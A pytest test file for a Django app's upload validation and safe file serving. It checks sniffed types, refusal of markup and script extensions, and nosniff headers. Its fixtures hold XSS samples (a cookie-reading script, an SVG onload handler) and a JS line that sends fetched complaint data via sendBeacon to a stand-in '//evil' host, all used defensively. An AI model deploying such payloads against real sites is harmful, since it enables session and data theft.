"""An upload's name must agree with what its bytes are; markup and scripts are never accepted;
downloads carry the sniffed type, nosniff, and are attachments unless they are images."""

import io
import zipfile
from pathlib import Path

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from qingyuan.core import attachments
from qingyuan.core.models import Attachment
from qingyuan.core.tests import photos

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JS = b"fetch('/api/v1/complaints/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"


def office(member: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(member, "<x/>")
    return out.getvalue()


def refused(name, content, allowed=None):
    with translation.override("zh-hans"), pytest.raises(ValidationError) as exc:
        attachments.validate_upload(SimpleUploadedFile(name, content), allowed=allowed)
    assert name in exc.value.messages[0]
    return exc.value


def test_it_refuses_a_pdf_named_html(db):
    error = refused("报告.html", PDF)
    assert error.code == "extension" and "PDF" in error.messages[0] and ".pdf" in error.messages[0]
    assert not Attachment.objects.exists()


def test_it_refuses_a_png_named_pdf(db):
    error = refused("监测报告.pdf", photos.png())
    assert error.code == "extension" and ".png" in error.messages[0]


@pytest.mark.parametrize("name", ["page.html", "page.htm", "page.xhtml", "logo.svg", "logo.svgz", "app.js",
                                  "app.mjs", "data.xml", "noext"])
@pytest.mark.parametrize("content", [HTML, SVG, JS, PDF, photos.png(), photos.jpeg()], ids=[
    "html", "svg", "js", "pdf", "png", "jpeg"])
@pytest.mark.parametrize("allowed", ["all", "images"])
def test_it_never_accepts_markup_or_script_names_anywhere(name, content, allowed):
    refused(name, content, attachments.IMAGE_KINDS if allowed == "images" else None)


def test_it_allows_no_kind_a_browser_would_run():
    names = {ext for kind in attachments.KINDS for ext in kind.extensions}
    mimes = {kind.mime for kind in attachments.KINDS}
    assert not names & {"html", "htm", "xhtml", "svg", "svgz", "js", "mjs", "xml", "xsl", "swf"}
    assert not any("html" in m or "svg" in m or "script" in m or "xml" == m.split("/")[-1] for m in mimes)


@pytest.mark.parametrize(("name", "mime"), [("IMG_0001.JPG", "image/jpeg"), ("photo.jpeg", "image/jpeg"),
                                            ("扫描件.PDF", "application/pdf")])
def test_it_accepts_the_usual_spellings_of_an_extension(db, name, mime):
    content = PDF if mime == "application/pdf" else photos.jpeg()
    assert attachments.validate_upload(SimpleUploadedFile(name, content)).mime == mime


def test_it_tells_word_from_excel_by_their_contents(db):
    assert attachments.validate_upload(SimpleUploadedFile("整改方案.docx", office("word/document.xml"))).extension \
        == "docx"
    assert attachments.validate_upload(SimpleUploadedFile("台账.xlsx", office("xl/workbook.xml"))).extension == "xlsx"
    assert refused("整改方案.docx", office("xl/workbook.xml")).code == "type"
    assert refused("archive.docx", office("payload/index.html")).code == "type"


def store(world, name, content):
    upload = SimpleUploadedFile(name, content)
    return attachments.store(world.enterprise_a, upload, uploaded_by=world.regulator,
                             kind=attachments.validate_upload(upload))


def test_it_serves_a_pdf_as_a_download_with_its_sniffed_type(world):
    response = attachments.serve(store(world, "报告.pdf", PDF))
    assert response["Content-Type"] == "application/pdf" and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment;")
    assert b"".join(response.streaming_content) == PDF


def test_it_shows_an_image_inline_with_its_sniffed_type(world):
    response = attachments.serve(store(world, "现场.png", photos.png()))
    assert response["Content-Type"] == "image/png" and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("inline;")


def test_it_serves_a_file_whose_bytes_changed_type_as_an_opaque_download(world, settings):
    stored = store(world, "现场.png", photos.png())
    (Path(settings.MEDIA_ROOT) / stored.path).write_bytes(HTML)
    response = attachments.serve(stored)
    assert response["Content-Type"] == "application/octet-stream" and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment;")


def test_it_still_serves_a_file_stored_before_uploads_were_re_encoded(world, settings):
    original = photos.jpeg()
    path = Path(settings.MEDIA_ROOT) / "attachments/2025/01/0123456789abcdef0123456789abcdef.jpg"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(original)
    stored = Attachment.objects.create(owner_type=ContentType.objects.get_for_model(world.enterprise_a),
                                       owner_id=str(world.enterprise_a.pk), name="旧照片.jpg", path=str(
                                           path.relative_to(settings.MEDIA_ROOT)), size=len(original),
                                       mime="image/jpeg", sha256="0" * 64)
    response = attachments.serve(stored)
    assert response["Content-Type"] == "image/jpeg" and response["Content-Disposition"].startswith("inline;")
    assert b"".join(response.streaming_content) == original
